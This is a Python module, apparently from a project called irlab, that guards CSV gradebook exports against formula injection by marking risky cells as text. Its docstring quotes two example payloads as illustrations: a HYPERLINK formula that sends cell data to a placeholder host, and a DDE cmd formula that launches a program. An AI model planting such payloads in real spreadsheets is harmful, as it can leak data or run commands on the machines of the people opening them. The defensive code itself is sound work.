"""CSV cells a spreadsheet reads as text, never as a formula: the one rule every CSV irlab writes follows.

Excel, LibreOffice Calc and Google Sheets read a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula,
and some read one that begins with a tab or a carriage return the same way; a student id, name, e-mail or answer
such as ``=HYPERLINK("http://x/?"&A1,"x")`` or ``=cmd|' /C calc'!A0`` would run when the teacher opens the
gradebook. OWASP's rule ("CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection) is to prefix
such a cell with an apostrophe, which a spreadsheet takes as "this cell is text" and does not show.

The rule, in :func:`safe_cell`:

* a cell that is exactly a number (``3``, ``-0.5``, ``+2``, ``1e-05``, spaces around allowed) is written as it
  is: a spreadsheet reads it as that number, so a negative score stays a number;
* any other cell whose first character is a control character (tab, carriage return, line feed, NUL…) or whose
  first visible character is ``=``, ``+``, ``-`` or ``@`` (or their full-width forms ``＝＋－＠``, to be safe) is
  prefixed with ``'``: ``-1+2``, ``-1/3``, ``=1+2``, ``@SUM(A1)``, ``+A1``, a leading tab;
* every other cell is written unchanged.

OWASP also warns that a field separator inside a cell can start a new cell there. A spreadsheet in a
decimal-comma locale reads a comma-separated file split at every ``;`` (and honours a quote only at the start of
a cell), a tab-separated reading splits at tabs, and a reading that does not honour quotes starts a row at every
line break. So what follows a ``;``, a tab, a carriage return or a line feed inside a cell is checked like the
start of a cell and gets the apostrophe when it starts with ``=``, ``+``, ``-`` or ``@`` (``0.5;=1+2`` is
written ``0.5;'=1+2``) — there even a negative number (``0.2; -0.5`` becomes ``0.2;' -0.5``: the apostrophe comes first in that cell), because in such a
reading that cell runs on into the next ones; for the same reason :class:`SafeWriter` writes a row's first cell
as text when it is a negative or signed number. :class:`SafeWriter` also quotes a cell holding a carriage return
(Python's ``csv`` module leaves it bare when lines end in ``\n``, and a spreadsheet starts a new row there).
Any other row is written byte for byte as ``csv.writer(stream, lineterminator="\n")`` writes it.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
TEXT_MARK = "'"  # what a spreadsheet reads as "the rest is text"
_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
_LEADING_INVISIBLE = re.compile(r"[\s\x00-\x1f\x7f-\x9f]*")
_INNER_CELL_STARTS = re.compile(r"([;\t\r\n])")  # where another reading of the file may start a cell
_QUOTED_WHEN = re.compile('[,"\n\r]')  # a cell holding one of these is quoted
# a first character that is neither a formula start nor invisible: the cell cannot read as a formula
_TEXT_STARTS = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")


def reads_as_formula(text: str) -> bool:
    """Whether a spreadsheet could read the cell ``text`` as a formula (the rule in the module docstring)."""
    if text[:1] in _TEXT_STARTS or not text or _NUMBER.fullmatch(text.strip(" ")):
        return False
    return text[0] < " " or text[0] == "\x7f" or _starts_formula(text)


def _starts_formula(text: str) -> bool:
    return text[_LEADING_INVISIBLE.match(text).end():].startswith(FORMULA_STARTS)


# where another reading starts a cell (after a ';', tab or line break): a formula start, or a tab or carriage return,
# right there or after quotes (a reader drops them there): '0\r\t0' read line by line has a line '\t0'
_FORMULA_THERE = re.compile('"*(?:[\t\r]|' + _LEADING_INVISIBLE.pattern
                            + "[" + re.escape("".join(FORMULA_STARTS)) + "])")


def safe_cell(value):
    """The cell as a spreadsheet must see it: a number (int, float) unchanged, ``None`` as an empty cell, any
    other value as text, with a ``'`` before a formula start at its beginning or after a ``;``, tab or line break
    inside it."""
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return value
    text = str(value)
    if _INNER_CELL_STARTS.search(text):  # each match is tried on the cell as given, in one pass (linear in its length)
        text = _INNER_CELL_STARTS.sub(
            lambda m: m.group() + (TEXT_MARK if _FORMULA_THERE.match(text, m.end()) else ""), text)
    return TEXT_MARK + text if reads_as_formula(text) else text


def _field(value) -> str:
    text = str(value)
    return '"' + text.replace('"', '""') + '"' if _QUOTED_WHEN.search(text) else text


def _plain_field(value) -> str:
    """A cell as SafeWriter writes it."""
    return _field(safe_cell(value))


def _first_field(value) -> str:
    """A row's first cell as SafeWriter writes it: a row's first cell runs on into the next ones where the file is
    read split at ';' (the module docstring), and into the previous row's last cell where a quoted line break is not
    honoured: there even a negative number (a student id '-0') is a formula start, so it is written as text."""
    cell = safe_cell(value)
    return _field(TEXT_MARK + str(cell) if _starts_formula(str(cell)) else cell)


_MEMO_SIZE = 4096  # distinct cells a SafeWriter remembers (then it starts again): memory bounded, repeats cheap
# a cell written as it is, first in a row or not: an ASCII letter, digit or '_' first (no formula start, nothing
# invisible), then only those and '.', '@', '-' (no separator, quote or line break)
_PLAIN_CELL = re.compile(r"[0-9A-Za-z_][0-9A-Za-z_.@-]*")


class SafeWriter:
    """``csv.writer``'s ``writerow``/``writerows`` (comma-separated, lines ending in ``\\n``), every cell passed
    through :func:`safe_cell` and quoted where a spreadsheet would otherwise split it."""

    def __init__(self, stream):
        self._write = stream.write
        # text -> its field as written (first cells apart): a class report repeats most of its cells (a student's id
        # on each of their rows, a question's feedback for everyone who wrote the same), each made safe once
        self._fields: dict = {}
        self._first_fields: dict = {}

    def writerow(self, row) -> None:
        values = list(row)
        cells = [self._field_of(values[0], self._first_fields, _first_field)]
        cells += [self._field_of(value, self._fields, _plain_field) for value in values[1:]]
        if cells == [""]:  # as csv.writer: a row of one empty field is written "" (else it reads as no row)
            cells = ['""']
        self._write(",".join(cells) + "\n")

    def joined(self, values) -> str:
        """The cells ``values`` as writerow writes them after a row's first cell, joined by commas."""
        return ",".join([self._field_of(value, self._fields, _plain_field) for value in values])

    def write_joined(self, first, joined: str) -> None:
        """``writerow([first, *rest])``, where ``joined`` is ``self.joined(rest)`` and rest has a cell: rows that
        share most of their cells (a class report's) have them joined once."""
        self._write(self._field_of(first, self._first_fields, _first_field) + "," + joined + "\n")

    def first_cell(self, value) -> str:
        """A row's first cell as writerow writes it (``first_cell(a) + "," + joined(rest) + "\\n"`` is that row)."""
        return self._field_of(value, self._first_fields, _first_field)

    @staticmethod
    def _field_of(value, memo: dict, field) -> str:
        if type(value) is not str:
            return field(value)
        written = memo.get(value)
        if written is None:
            if _PLAIN_CELL.fullmatch(value):  # nothing to mark or quote (a student id, a status): not remembered
                return value
            if len(memo) >= _MEMO_SIZE:
                memo.clear()
            written = memo[value] = field(value)
        return written

    def writerows(self, rows) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream) -> SafeWriter:
    """A CSV writer for ``stream`` whose cells a spreadsheet reads as text or numbers, never as formulas."""
    return SafeWriter(stream)


# An id that must come back exactly from a file a person filled in (irlab pool's judging list -> qrels): the same
# marks as safe_cell, and also one before a mark that is part of the id itself (at its start, or after a ';', tab or
# line break), so that every mark at those places was added and read_back_id removes exactly those.
_MARK_AFTER_SEPARATOR = re.compile("([;\t\r\n])" + TEXT_MARK)


def reversible_id(text: str, first: bool = False) -> str:
    """``text`` as :func:`safe_cell` writes it (``first``: as the first cell of a row, where SafeWriter marks even a
    signed number), with a ``'`` also before a ``'`` of the id at those places; :func:`read_back_id` undoes it
    exactly, and SafeWriter writes the result unchanged.

    >>> [reversible_id(t) for t in ("-1", "+x", "@a", "=SUM(1)", "'quoted", "d1")]
    ['-1', "'+x", "'@a", "'=SUM(1)", "''quoted", 'd1']
    >>> reversible_id("-1", first=True)
    "'-1"
    """
    text = str(text)
    marked = _INNER_CELL_STARTS.sub(lambda m: m.group() + (TEXT_MARK if _FORMULA_THERE.match(text, m.end())
                                                           or text.startswith(TEXT_MARK, m.end()) else ""), text)
    lead = reads_as_formula(text) or text.startswith(TEXT_MARK) or (first and _starts_formula(text))
    return TEXT_MARK + marked if lead else marked


def read_back_id(cell: str) -> str:
    """The id :func:`reversible_id` wrote as ``cell``: the ``'`` it added at the start and after a ';', tab or line
    break removed, and nothing else (a cell a spreadsheet saved without them is read as it is).

    >>> [read_back_id(c) for c in ("-1", "'+x", "+x", "'=SUM(1)", "''quoted", "d1")]
    ['-1', '+x', '+x', '=SUM(1)', "'quoted", 'd1']
    """
    cell = _MARK_AFTER_SEPARATOR.sub(lambda m: m.group(1), cell)
    return cell[len(TEXT_MARK):] if cell.startswith(TEXT_MARK) else cell
